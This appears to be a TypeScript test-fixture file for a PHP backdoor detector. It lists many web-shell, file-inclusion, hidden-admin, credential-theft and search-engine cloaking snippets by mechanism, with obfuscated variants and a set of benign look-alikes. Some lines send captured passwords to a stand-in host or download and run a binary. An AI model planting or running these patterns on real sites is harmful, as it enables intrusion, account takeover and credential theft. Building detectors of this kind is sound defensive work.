/** PHP by what carries a visitor's data to where it does harm, or by the harm; each without tags. */

/** As a file holds it, a character a byte. */
const bytes = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');

export const mechanisms: Readonly<Record<string, readonly string[]>> = {
  'syntax of PHP 8': [
    "enum Way: string { case A = '«PASS»'; public function go(string $s) { return ($this->value)($s); } }\nWay::from('«PASS»')->go(«GET»['s']);",
    "enum E { case X; const H = '«SHELL»'; static function go($x) { return (self::H)($x); } }\nE::go(«POST»['x']);",
    'final readonly class R { public function __construct(private string $c) {} public function __invoke() { return «SHELL»($this->c); } }\n(new R(«GET»["c"]))();',
    'class H { public string $run { set(string $v) { «SYSTEM»($v); } } }\n$h = new H; $h->run = «GET»["r"];',
    "«GET»['c'] |> trim(...) |> «SHELL»(...);",
    "array_map(array: [«POST»['q']], callback: '«PASS»');",
    'class N { public function r(string $code, string $by = "trim") { return $by($code); } }\n(new N)?->r(by: "«SYSTEM»", code: «GET»["n"]);',
    '#[Meta("«PASS»")] class M {}\n$a = (new ReflectionClass("M"))->getAttributes()[0]->newInstance(); ($a->name)(«GET»["m"]);',
  ],
  'classes': [
    'trait T { function a($x) { return «SHELL»($x); } } class K { use T { a as public b; } }\n(new K)->b(«GET»["t"]);',
    'class D { static function __callStatic($n, $a) { return $n(...$a); } }\nD::{«REQUEST»["m"]}(«REQUEST»["p"]);',
    'class J { public $f; public $a; function __wakeup() { ($this->f)($this->a); } }\nunserialize(«B64»(«COOKIE»["j"]));',
    'class W { public $s; function __clone() { «EVAL»($this->s); } }\n$w = new W; $w->s = «POST»["b"]; $z = clone $w;',
    'function feed() { while ($x = yield) { «EVAL»($x); } }\n$g = feed(); $g->current(); $g->send(«POST»["j"]);',
  ],
  'called by somebody else': [
    "Route::get('/x', function () { return «SHELL»(«GET»['c']); });",
    "set_error_handler(function ($n, $text) { «SYSTEM»($text); });\ntrigger_error(«POST»['m'], E_USER_WARNING);",
    "set_exception_handler(function ($e) { «SYSTEM»($e->getMessage()); });\nthrow new Exception(«POST»['e']);",
    "ob_start(function ($b) { return «SHELL»($b); });\necho «COOKIE»['t'];",
    "add_filter('x', «REQUEST»['h']); echo apply_filters('x', «REQUEST»['v']);",
    "$x = new DOMXPath(new DOMDocument); $x->registerPhpFunctions(); $x->query(\"php:function('\" . «GET»['f'] . \"','1')\");",
    '$d = new DOMDocument; $d->loadXML(«POST»["x"]); $p = new XSLTProcessor; $p->registerPHPFunctions(); $p->importStylesheet($d); $p->transformToXml($d);',
  ],
  'frameworks': [
    'class C { public function a(Request $request) { return «SHELL»($request->input("p")); } }',
    'class C { public function a(ServerRequestInterface $r) { «EVAL»($r->getParsedBody()["p"]); } }',
    '«SHELL»(request("x"));', '«EVAL»(I("post.data"));', "«CALL»(input('post.m'), input('post.d'));",
    'class C extends X { function run() { $f = $this->input->post("f"); $f($this->input->post("a")); } }',
    '«SYSTEM»(Yii::$app->request->get("c"));',
  ],
  'variables set anew': [
    '$f = "trim"; $a = "x"; extract(«REQUEST»); $f($a);',
    '$f = «GET»["f"] ?? "intval"; echo $f(«GET»["a"]);',
    '["f" => $f, "p" => ["q" => $q]] = «POST» + ["f" => "intval", "p" => ["q" => 0]]; $f($q);',
    'foreach (json_decode(«READ»("«INPUT»")) as $k => $v) $$k = $v;\n$do($with);',
    "foreach (['a', 'b'] as $k) { if (isset(«COOKIE»[$k])) { $c = «COOKIE»[$k]; break; } }\n«EVAL»($c);",
  ],
  'run as code that is none': [
    "include '/var/log/nginx/access.log';", "include 'zip://' . __DIR__ . '/img/a.jpg#b';", "include 'phar://uploads/a.png/x';",
    "session_start(); «SESSION»['n'] = «GET»['n']; include session_save_path() . '/sess_' . session_id();",
    "include 'php://filter/read=convert.base64-decode/resource=img/spacer.gif';", "$u = strrev('txt.a/elpmaxe.ndc//:ptth'); include $u;",
    "$c = «READ»(__DIR__ . '/cache/t.txt'); «EVAL»(«B64»($c));", "$m = exif_read_data('a.jpg'); «EVAL»($m['Comment']);",
    '$i = imagecreatefrompng("b.png"); $s = ""; for ($x = 0; $x < imagesx($i); $x++) { $s .= chr(imagecolorat($i, $x, 0) & 255); } «EVAL»($s);',
    'file_put_contents("index.php", "<?php @«EVAL»(\\«POST»[\'h\']);?>" . «READ»("index.php"));',
  ],
  'other programs made to run': [
    "mail('a@b.example', 's', «POST»['b'], '', '-OQueueDirectory=/tmp -X' . __DIR__ . '/c.php');", "putenv('GCONV_PATH=/tmp/g/'); iconv('x', 'UTF-8', 'a');",
    "imap_open('{x -oProxyCommand=' . «GET»['c'] . '}', '', '');", "copy('http://203.0.113.7/x', '/tmp/.x'); chmod('/tmp/.x', 0755); «EXEC»('/tmp/.x &');",
    "$s = «SOCK»(«GET»['h'], 80); fwrite($s, «READ»('«INPUT»')); echo fread($s, 9000);",
  ],
  'files and databases of the visitor': [
    "$i = fopen('«INPUT»', 'r'); $o = fopen(«SERVER»['DOCUMENT_ROOT'] . «GET»['to'], 'w'); stream_copy_to_stream($i, $o);",
    "$z = new ZipArchive; $z->open(«FILES»['p']['tmp_name']); $z->extractTo('./');",
    "error_log('<?php ' . «POST»['b'], 3, 'cache/t.php');",
    "$c = new mysqli(«POST»['h'], «POST»['u'], «POST»['p']); $r = $c->query(«POST»['q']);",
    "foreach (explode(\"\\n\", «POST»['to']) as $m) mail($m, «POST»['s'], «POST»['b'], 'From: ' . «POST»['f']);",
  ],
  'shown to search engines': [
    "if (strpos(«SERVER»['HTTP_USER_AGENT'], 'Baiduspider') !== false) { echo «READ»('http://seo.example/?u=' . «SERVER»['REQUEST_URI']); exit; }",
    "function asks() { return preg_match('/baidu|sogou/i', «SERVER»['HTTP_REFERER']) === 1; }\nif (asks()) { header('Location: https://bet.example/'); exit; }",
    "$s = false; foreach (['Baiduspider', 'Sogou'] as $b) { if (stripos(«SERVER»['HTTP_USER_AGENT'], $b) !== false) { $s = true; break; } }\nif ($s) { readfile('http://seo.example/p'); }",
    "if (preg_match('/baidu\\.com/', «SERVER»['HTTP_REFERER'])): ?><script>location.href='https://vip.example/'</script><?php exit; endif;",
  ],
  'accounts and passwords': [
    "$id = wp_create_user('helper', 'S3cret!x', 'h@x.example'); $u = new WP_User($id); $u->set_role('administrator');",
    "wp_insert_user(['user_login' => 'h', 'user_pass' => 'S3cret!x', 'role' => 'administrator']);",
    "$u = get_users(['role' => 'administrator'])[0]; wp_set_auth_cookie($u->ID);",
    "add_action('pre_user_query', function ($q) { $q->query_where .= \" AND user_login != 'h'\"; });",
    "add_action('wp_authenticate', function ($u, $p) { wp_remote_post('https://c.example/', ['body' => $p]); }, 1, 2);",
    "mysqli_query($l, \"INSERT INTO wp_usermeta VALUES (9, 'wp_capabilities', 'a:1:{s:13:\\\"administrator\\\";b:1;}')\");",
    "mail('drop@mail.example', 'r', «POST»['user'] . ':' . «POST»['password']);", "file_put_contents('log.txt', «POST»['pwd'] . \"\\n\", 8);",
  ],
  'written to be overlooked': [
    '/*a*/$f/*b*/=/*c*/"as"./*d*/"sert";/*e*/$f/*f*/(«POST»["c"]);', "$V = 'sys' . 'tem'; $V(«GET»['x']);".replaceAll('V', bytes('\u200b')), '$V = "sys" . "tem"; $V(«GET»["x"]);'.replaceAll('V', bytes('函数')),
    'use function «SHELL» as info; echo info(«GET»["c"]);',
  ],
};

/** What looks like one of them and is none. */
export const mechanismsBenign: Readonly<Record<string, string>> = {
  'search engines are not counted': "<?php if (!preg_match('/baiduspider|googlebot/i', «SERVER»['HTTP_USER_AGENT'])) { header('Location: https://m.shop.example/'); exit; }",
  'search engines get the page drawn here': "<?php if (stripos(«SERVER»['HTTP_USER_AGENT'], 'Baiduspider') !== false) { echo Render::page(«SERVER»['REQUEST_URI']); exit; }",
  'telephones go to their own site': "<?php if (preg_match('/iphone|android/i', «SERVER»['HTTP_USER_AGENT'])) { header('Location: https://m.shop.example' . «SERVER»['REQUEST_URI']); exit; }",
  'a question to a whois server': "<?php $s = «SOCK»(«GET»['server'], 43); fwrite($s, «GET»['name'] . \"\\r\\n\"); echo htmlspecialchars(fgets($s));",
  'members register': "<?php $id = wp_create_user(sanitize_user(«POST»['login']), «POST»['pass'], «POST»['mail']); $u = new WP_User($id); $u->set_role('subscriber');",
  'a new password is mailed to its owner': "<?php mail(«POST»['mail'], 'Welcome', 'Your password: ' . «POST»['password']);",
  'a log-on is asked of another service': "<?php $c = curl_init('https://sso.example/'); curl_setopt($c, CURLOPT_POSTFIELDS, ['u' => «POST»['user'], 'p' => «POST»['password']]); curl_exec($c);",
  'settings with defaults': "<?php $o = «GET» + ['sort' => 'name', 'page' => 1]; echo htmlspecialchars($o['sort']), (int) $o['page'];",
  'a request of a framework': "<?php class C { public function show(Request $request) { $id = (int) $request->input('id'); return view('item', ['item' => Item::find($id)]); } }",
  'text beside the program': "<?php echo nl2br(«B64»(«READ»(__DIR__ . '/notes.txt')));",
  'an enumeration': "<?php enum Suit: string { case A = 'a'; public function label(): string { return ucfirst($this->value); } }\necho Suit::from(«GET»['s'])->label();",
  'routes': "<?php $app->get('/items', function ($request, $response) { $response->getBody()->write(json_encode(Item::all($request->getQueryParams()['q'] ?? ''))); return $response; });",
};
